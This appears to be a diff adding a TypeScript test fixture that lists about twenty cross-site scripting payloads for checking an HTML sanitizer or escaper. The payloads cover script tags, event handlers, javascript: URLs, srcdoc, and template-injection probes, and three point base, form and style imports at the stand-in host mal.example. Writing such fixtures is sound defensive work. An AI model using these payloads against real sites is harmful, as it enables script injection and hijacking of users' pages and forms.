@@ -1,0 +1,23 @@
+/** Texts that have run in somebody's page before. */
+export const payloads = [
+  '<script>window.__xss=1</script>',
+  '</script><script>window.__xss=1</script>',
+  '</title><script>window.__xss=1</script>',
+  '</style><script>window.__xss=1</script>',
+  '"><img src=x onerror=window.__xss=1>',
+  "' onmouseover='window.__xss=1",
+  '"/><svg onload=window.__xss=1>',
+  '<a href="javascript:window.__xss=1">x</a>',
+  '<a href="data:text/html,<script>1</script>">x</a>',
+  '<iframe srcdoc="<script>window.__xss=1</script>">',
+  '<math><mi xlink:href="javascript:window.__xss=1">',
+  '<!--<script>window.__xss=1</script>-->',
+  '<base href="https://mal.example/">',
+  '<form action="https://mal.example/"><button>x',
+  '<style>@import "https://mal.example/x.css"</style>',
+  'javascript:window.__xss=1',
+  '$& $` $1 #{7*7} {{7*7}}',
+  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
+  '\u2028</script><script>window.__xss=1</script>',
+  '<ScRiPt/x>window.__xss=1</sCrIpT >',
+]
